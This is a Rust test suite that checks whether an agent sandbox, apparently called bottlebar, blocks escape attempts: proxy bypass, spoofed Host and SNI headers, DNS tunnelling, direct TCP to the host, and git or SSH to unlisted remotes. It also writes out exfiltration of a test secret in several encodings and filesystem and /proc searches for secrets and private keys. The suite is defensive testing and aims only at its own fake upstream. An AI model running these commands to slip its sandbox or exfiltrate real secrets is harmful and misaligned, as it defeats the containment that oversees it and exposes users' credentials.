//! The sandbox-escape suite: one test per attack, run on every backend
//! (`scripts/test` runs it on Docker and on the apple backend through the
//! `container` double). Each attack is made from inside a real agent.
//!
//! Every attack pairs its attempts with controls that show the target
//! answers where it should (the upstream from its own network, the host
//! service from the host, a bottle's sidecar from its own agent). An attack
//! that succeeds fails its test; so does one that could not be attempted.
//! Results go to `security_results_dir()`, from which
//! `bottlebar-security-report` writes `docs/security.md`.
//!
//! The "internet" is the project's own upstream container on the bottle's
//! egress network (HTTP, HTTPS, DNS on 53, a fake SSH server on 22), reached
//! by pinned addresses; nothing else is contacted.

use bottlebar_e2e::escape::*;
use bottlebar_e2e::*;

#[test]
fn attack_1_non_allowlisted_host_through_the_proxy() {
    let f = fixture("e2e-esc1");
    let mut a = Attack::new(1, "Non-allowlisted host via the proxy (HTTP and CONNECT)");
    a.control(
        status(&f.fetch(&format!("https://{ALLOWED}/"))) == 200,
        "the allowed host answers through the proxy",
    );
    a.control(
        tcp_opens_from(&f.egress(), &f.upstream.ip, 443),
        "the upstream behind the denied name answers on its own network",
    );
    a.blocked(
        denied_by_sidecar(&f.fetch(&format!("http://{DENIED}/"))),
        format!("HTTP GET http://{DENIED}/"),
    );
    a.blocked(
        denied_by_sidecar(&f.fetch(&format!("https://{DENIED}/"))),
        format!("CONNECT {DENIED}:443 then GET"),
    );
    a.blocked(
        denied_by_sidecar(&f.fetch(&format!("-X POST --data x http://{DENIED}/echo"))),
        format!("HTTP POST http://{DENIED}/echo"),
    );
    a.finish();
}

#[test]
fn attack_2_ip_literal_spoofed_host_and_sni_mismatch() {
    let f = fixture("e2e-esc2");
    let ip = f.upstream.ip.clone();
    let mut a = Attack::new(2, "IP literal, spoofed Host, SNI ≠ Host");
    a.control(
        status(&f.fetch(&format!("https://{ALLOWED}/"))) == 200,
        "the allowed host answers through the proxy",
    );
    a.blocked(
        denied_by_sidecar(&f.fetch(&format!("http://{ip}/"))),
        format!("HTTP to the IP literal {ip}"),
    );
    a.blocked(
        denied_by_sidecar(&f.fetch(&format!("https://{ip}/"))),
        format!("CONNECT to the IP literal {ip}:443"),
    );
    a.blocked(
        denied_by_sidecar(&f.fetch(&format!("-H 'Host: {DENIED}' https://{ALLOWED}/"))),
        format!("Host: {DENIED} inside a tunnel to {ALLOWED}"),
    );
    a.blocked(
        denied_by_sidecar(&f.fetch(&format!("-H 'Host: {ALLOWED}' http://{DENIED}/"))),
        format!("Host: {ALLOWED} on a request for http://{DENIED}/"),
    );
    a.blocked(
        refused(&f.fetch(&format!("--sni {DENIED} https://{ALLOWED}/"))),
        format!("SNI {DENIED} in a CONNECT to {ALLOWED}"),
    );
    let audit = f.h.bottle(&["logs", &f.name, "--json"]).stdout;
    a.blocked(
        audit.contains("differs from the CONNECT host"),
        "the SNI mismatch is in the audit log as denied",
    );
    a.blocked(
        denied_by_sidecar(&f.fetch(&format!("--connect-host {DENIED} https://{ALLOWED}/"))),
        format!("CONNECT {DENIED} carrying SNI/Host {ALLOWED}"),
    );
    a.finish();
}

#[test]
fn attack_3_secret_exfiltration_in_every_scanned_encoding() {
    use base64::Engine as _;
    let f = fixture("e2e-esc3");
    let mut a = Attack::new(
        3,
        "Secret exfiltration: path, query, headers, body, every encoding",
    );
    a.control(
        status(&f.fetch(&format!("https://{ALLOWED}/echo?q=harmless"))) == 200,
        "a harmless request to the allowed host passes",
    );
    let hex: String = SECRET.bytes().map(|b| format!("{b:02x}")).collect();
    let pct: String = SECRET.bytes().map(|b| format!("%{b:02X}")).collect();
    let encodings = [
        ("raw", SECRET.to_string()),
        ("hex", hex),
        (
            "base64",
            base64::engine::general_purpose::STANDARD.encode(format!("x{SECRET}")),
        ),
        (
            "base64url",
            base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(format!("xy{SECRET}")),
        ),
        ("percent", pct),
        (
            "piecewise base64 (two bytes a padded piece)",
            SECRET
                .as_bytes()
                .chunks(2)
                .map(|c| base64::engine::general_purpose::STANDARD.encode(c))
                .collect(),
        ),
    ];
    for (enc, value) in &encodings {
        let base = format!("https://{ALLOWED}/echo");
        for (place, args) in [
            ("path", format!("{base}/{value}")),
            ("query", format!("'{base}?k={value}'")),
            ("header", format!("-H 'X-Leak: {value}' {base}")),
            ("body", format!("-X POST --data '{value}' {base}")),
        ] {
            let v = f.fetch(&args);
            a.blocked(
                denied_by_sidecar(&v),
                format!("{enc} secret in the {place} (status {})", status(&v)),
            );
        }
    }
    // The upstream never saw the value outside the injected header.
    let logs = engine().cli(&["logs", &f.upstream.name]).stdout;
    a.blocked(
        !logs.contains("X-Leak"),
        "the upstream logged no leaked header",
    );
    a.finish();
}

#[test]
fn attack_4_dns_from_the_agent() {
    let f = fixture("e2e-esc4");
    let ip = f.upstream.ip.clone();
    let mut a = Attack::new(
        4,
        "DNS: outside names, UDP/TCP 53 to a resolver, DoH via the proxy",
    );
    a.control(
        engine()
            .run_on(&f.egress(), &format!("nslookup {OUTSIDE_NAME} {ip}"))
            .stdout
            .contains("198.51.100.7"),
        "the test resolver answers on its own network (UDP)",
    );
    a.control(
        tcp_opens_from(&f.egress(), &ip, 53),
        "the test resolver answers on its own network (TCP)",
    );
    let own = f.sh(&format!(
        "nslookup {OUTSIDE_NAME} 2>&1; nslookup {ALLOWED} 2>&1"
    ));
    a.blocked(
        !own.stdout.contains("198.51.100.7") && !own.stdout.contains(&ip),
        format!("resolving {OUTSIDE_NAME} and {ALLOWED} with the agent's own resolver"),
    );
    let direct = f.sh(&format!("nslookup {OUTSIDE_NAME} {ip} 2>&1"));
    a.blocked(
        !direct.stdout.contains("198.51.100.7"),
        format!("UDP 53 to the resolver at {ip}"),
    );
    a.blocked(
        !tcp_opens(&f, &ip, 53),
        format!("TCP 53 to the resolver at {ip}"),
    );
    let logs = engine().cli(&["logs", &f.upstream.name]).stdout;
    let agent_ip = engine().ip(&f.agent(), &format!("bottlebar-{}-internal", f.name));
    a.blocked(
        !logs.contains(&format!("dns query from {agent_ip}")),
        "the resolver received no query from the agent",
    );
    a.blocked(
        denied_by_sidecar(&f.fetch(&format!(
            "'https://{DOH}/dns-query?dns=AAABAAABAAAAAAAAB2V4YW1wbGUDY29tAAABAAE'"
        ))),
        format!("DoH GET to {DOH} through the proxy"),
    );
    a.control(
        status(&f.fetch(&format!("https://{WILD}/"))) == 200,
        format!("{WILD} is allowed by a wildcard rule"),
    );
    a.blocked(
        denied_by_sidecar(&f.fetch(&format!(
            "-X POST -H 'Content-Type: application/dns-message' --data x https://{WILD}/dns-query"
        ))),
        format!("DoH by media type to {WILD} (allowed by a wildcard)"),
    );
    a.finish();
}

#[test]
fn attack_5_direct_tcp_and_udp_around_the_proxy() {
    // The two bottles launch at once: most of a launch is waiting.
    let (f, other) = std::thread::scope(|s| {
        let other = s.spawn(|| fixture("e2e-esc5b"));
        (fixture("e2e-esc5"), other.join().unwrap())
    });
    let e = engine();
    let ip = f.upstream.ip.clone();
    let net = fake_internet();
    let mut a = Attack::new(
        5,
        "Direct TCP/UDP to the upstream, egress subnet, host, another bottle",
    );
    // Targets and their controls.
    let other_sidecar = e.ip(
        "bottlebar-e2e-esc5b-sidecar",
        "bottlebar-e2e-esc5b-internal",
    );
    let other_agent = e.ip("bottlebar-e2e-esc5b-agent", "bottlebar-e2e-esc5b-internal");
    a.control(
        tcp_opens_from(&f.egress(), &ip, 443),
        "upstream answers on its network",
    );
    a.control(
        tcp_opens(&other, &other_sidecar, 3128),
        "the other bottle's sidecar answers its own agent",
    );
    a.control(
        std::net::TcpStream::connect(("127.0.0.1", net.host_service_port)).is_ok(),
        "the host service (bound to 0.0.0.0) answers on the host",
    );
    // All at once, as below: each blocked attempt waits out its timeout.
    let tries = [80, 443, 22]
        .map(|port| format!("(nc -w 2 {ip} {port} </dev/null && echo OPEN {port}) & "))
        .concat()
        + &format!("nslookup {OUTSIDE_NAME} {ip} 2>&1 & wait");
    let upstream = f.sh(&tries).stdout;
    for port in [80, 443, 22] {
        a.blocked(
            !upstream.contains(&format!("OPEN {port}\n")),
            format!("TCP to the upstream {ip}:{port}"),
        );
    }
    a.blocked(
        !upstream.contains("198.51.100.7"),
        format!("UDP to the upstream {ip}:53"),
    );
    // The host: every address of this machine, and the gateway of every
    // network the agent sees.
    let gateways = f.sh("cat /proc/net/route").stdout;
    let mut host_targets = bottlebar_core::selftest::host_addresses()
        .into_iter()
        .filter(|a| a.is_ipv4())
        .map(|a| a.to_string())
        .collect::<Vec<_>>();
    for line in gateways.lines().skip(1) {
        if let Some(gw) = line
            .split_whitespace()
            .nth(2)
            .and_then(|g| u32::from_str_radix(g, 16).ok())
            .filter(|&g| g != 0)
        {
            let gw = std::net::Ipv4Addr::from(gw.swap_bytes()).to_string();
            // A gateway may be one of the host's own addresses: tried once.
            if !host_targets.contains(&gw) {
                host_targets.push(gw);
            }
        }
    }
    a.control(
        !host_targets.is_empty(),
        "this machine has addresses to attack",
    );
    // All at once: each blocked attempt waits out its timeout.
    let port = net.host_service_port;
    let script: String = host_targets
        .iter()
        .map(|h| format!("(nc -w 2 {h} {port} </dev/null && echo OPEN {h}) & "))
        .collect::<String>()
        + "wait";
    let opened = f.sh(&script).stdout;
    for h in &host_targets {
        let what = format!("TCP to the host at {h}:{port}");
        if e.is_apple() && opened.contains(&format!("OPEN {h}\n")) {
            // Apple's host-only networks make the host the agent's gateway
            // (`.1`), so host services are reachable: the documented `host`
            // class, accepted by this suite's settings (docs/security.md).
            a.accepted_leak(what);
        } else {
            a.blocked(!opened.contains(&format!("OPEN {h}\n")), what);
        }
    }
    a.blocked(
        !tcp_opens(&f, &other_sidecar, 3128),
        format!("TCP to another bottle's sidecar {other_sidecar}:3128"),
    );
    // The other agent listens; a container on its network reaches it.
    e.exec_detached(
        "bottlebar-e2e-esc5b-agent",
        &["sh", "-c", "while true; do nc -l -p 7000 </dev/null; done"],
    )
    .expect_ok("a listener in the other agent");
    a.control(
        (0..20).any(|_| {
            std::thread::sleep(std::time::Duration::from_millis(150));
            tcp_opens_from("bottlebar-e2e-esc5b-internal", &other_agent, 7000)
        }),
        "the other bottle's agent answers on its own network",
    );
    a.blocked(
        !tcp_opens(&f, &other_agent, 7000),
        format!("TCP to another bottle's agent {other_agent}:7000"),
    );
    a.finish();
}

#[test]
fn attack_6_dropping_the_proxy_settings() {
    let f = fixture("e2e-esc6");
    let ip = f.upstream.ip.clone();
    let mut a = Attack::new(6, "--no-proxy / unset proxy env, then connect anyway");
    a.control(
        engine()
            .run_on(
                &f.egress(),
                &format!("wget -q -O - http://{ip}/ && echo FETCHED"),
            )
            .stdout
            .contains("FETCHED"),
        "the upstream serves HTTP on its own network",
    );
    for (how, script) in [
        ("proxy variables unset", format!("env -u HTTP_PROXY -u http_proxy -u HTTPS_PROXY -u https_proxy timeout 5 wget -q -O - http://{ip}/ && echo FETCHED")),
        ("wget --proxy off", format!("timeout 5 wget -Y off -q -O - http://{ip}/ && echo FETCHED")),
        ("NO_PROXY=*", format!("NO_PROXY='*' no_proxy='*' timeout 5 wget -q -O - http://{ip}/ && echo FETCHED")),
        ("test kit without proxy", format!("env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy timeout 5 /opt/testkit/bottlebar-testkit fetch http://{ip}/ | grep -q '\"status\":200' && echo FETCHED")),
    ] {
        a.blocked(!f.sh(&script).stdout.contains("FETCHED"), how);
    }
    a.finish();
}

#[test]
fn attack_7_reading_secrets_inside_the_agent() {
    let f = fixture("e2e-esc7");
    let mut a = Attack::new(
        7,
        "Reading secrets: env, filesystem, mounts, /proc, the CA key",
    );
    // The search works: it finds the placeholder the agent does hold.
    let env = f.sh("env; cat /proc/1/environ | tr '\\0' '\\n'").stdout;
    a.control(
        env.contains("bottlebar-placeholder-api"),
        "the search sees the agent's environment",
    );
    a.blocked(!env.contains(SECRET), "the agent's environment and PID 1's");
    let everywhere = f.sh(&format!(
        "grep -rlsF '{SECRET}' / --exclude-dir=proc --exclude-dir=sys 2>/dev/null; \
         for p in /proc/[0-9]*; do grep -lsaF '{SECRET}' $p/environ $p/cmdline; done; true"
    ));
    a.blocked(
        everywhere.stdout.trim().is_empty(),
        format!(
            "every readable file and /proc: {}",
            everywhere.stdout.trim()
        ),
    );
    let keys = f.sh(
        "grep -rlsE 'BEGIN (RSA |EC )?PRIVATE KEY' / --exclude-dir=proc --exclude-dir=sys 2>/dev/null; true",
    );
    a.blocked(
        keys.stdout.trim().is_empty(),
        format!("any private key (the CA's): {}", keys.stdout.trim()),
    );
    let ca_dir = f.sh("ls /etc/bottlebar/ca").stdout;
    a.control(
        ca_dir.contains("ca.crt"),
        "the agent has its CA certificate",
    );
    a.blocked(!ca_dir.contains("key"), "no key next to the CA certificate");
    a.blocked(
        !engine().raw_inspect(&f.agent()).contains(SECRET),
        "the agent's container configuration",
    );
    a.finish();
}

#[test]
fn attack_8_git_to_a_non_allowlisted_remote() {
    // An agent with the real git and ssh clients of this machine.
    let ctx = git_agent_context();
    let agent = format!("dockerfile = \"{}/Dockerfile\"", ctx.path().display());
    let f = fixture_with("e2e-esc8", &agent, Some(ctx), "");
    let ip = f.upstream.ip.clone();
    let mut a = Attack::new(8, "git over HTTPS and SSH to a non-allowlisted remote");
    a.control(
        engine()
            .run_on(&f.egress(), &format!("nc -w 2 {ip} 22 </dev/null"))
            .stdout
            .contains(bottlebar_e2e::testkit::server::SSH_BANNER),
        "the remote's SSH server answers on its own network",
    );
    // git itself, through the bottle's proxy settings.
    let git = |args: &str| {
        f.sh(&format!("cd /tmp && timeout 20 git {args} 2>&1; true"))
            .stdout
    };
    // The server answered git (the test server is no git server, so git
    // says so: "not valid: is this a git repository?").
    let server_answered = |out: &str| {
        out.contains("is this a git repository")
            || (out.contains("repository") && out.contains("not found"))
    };
    let reached = git(&format!("ls-remote https://{ALLOWED}/org/repo.git"));
    a.control(
        server_answered(&reached),
        format!(
            "git reaches an allowed server through the proxy: {}",
            reached.trim()
        ),
    );
    for (what, args) in [
        ("git ls-remote over HTTPS", format!("ls-remote https://{GIT}/org/repo.git")),
        ("git clone over HTTPS", format!("clone https://{GIT}/org/repo.git /tmp/clone")),
        (
            "git push over HTTPS",
            format!(
                "init -q /tmp/r && cd /tmp/r && git -c user.email=a@b.c -c user.name=a commit -q --allow-empty -m x && git push https://{GIT}/org/repo.git HEAD:main"
            ),
        ),
        ("git over HTTPS to the remote's IP", format!("ls-remote https://{ip}/org/repo.git")),
    ] {
        let out = git(&args);
        a.blocked(
            out.contains("403") && !server_answered(&out),
            format!("{what}: {}", out.lines().last().unwrap_or("").trim()),
        );
    }
    let ssh_reached = |out: &str| {
        [
            "kex_exchange_identification",
            "Connection closed",
            "Permission denied",
            "host key",
        ]
        .iter()
        .any(|m| out.contains(m))
    };
    for (what, args) in [
        (
            "git over SSH by name",
            format!("ls-remote git@{GIT}:org/repo.git"),
        ),
        (
            "git over SSH to the remote's IP",
            format!("ls-remote ssh://git@{ip}/org/repo.git"),
        ),
    ] {
        let out = f
            .sh(&format!(
                "cd /tmp && GIT_SSH_COMMAND='ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=3' timeout 20 git {args} 2>&1; true"
            ))
            .stdout;
        a.blocked(
            !ssh_reached(&out),
            format!("{what}: {}", out.lines().next().unwrap_or("").trim()),
        );
    }
    // And the requests git sends first, by hand.
    a.blocked(
        denied_by_sidecar(&f.fetch(&format!(
            "'https://{GIT}/org/repo.git/info/refs?service=git-upload-pack'"
        ))),
        "git clone over HTTPS (info/refs, upload-pack)",
    );
    a.blocked(
        denied_by_sidecar(&f.fetch(&format!(
            "-X POST -H 'Content-Type: application/x-git-receive-pack-request' --data 0000 https://{GIT}/org/repo.git/git-receive-pack"
        ))),
        "git push over HTTPS (receive-pack)",
    );
    // git over SSH: straight to port 22, and through the proxy.
    a.blocked(
        !f.sh(&format!("nc -w 2 {ip} 22 </dev/null"))
            .stdout
            .contains("SSH-2.0"),
        format!("SSH straight to {ip}:22"),
    );
    let via_proxy = f.sh(&format!(
        "p=${{HTTP_PROXY#http://}}; (printf 'CONNECT {GIT}:22 HTTP/1.1\\r\\nHost: {GIT}:22\\r\\n\\r\\n'; sleep 2) | nc -w 3 ${{p%:*}} ${{p##*:}} 2>&1 | head -1"
    ));
    a.blocked(
        via_proxy.stdout.contains("403") && !via_proxy.stdout.contains("SSH-2.0"),
        format!(
            "SSH tunnelled through the proxy (CONNECT {GIT}:22): {}",
            via_proxy.stdout.trim()
        ),
    );
    a.finish();
}
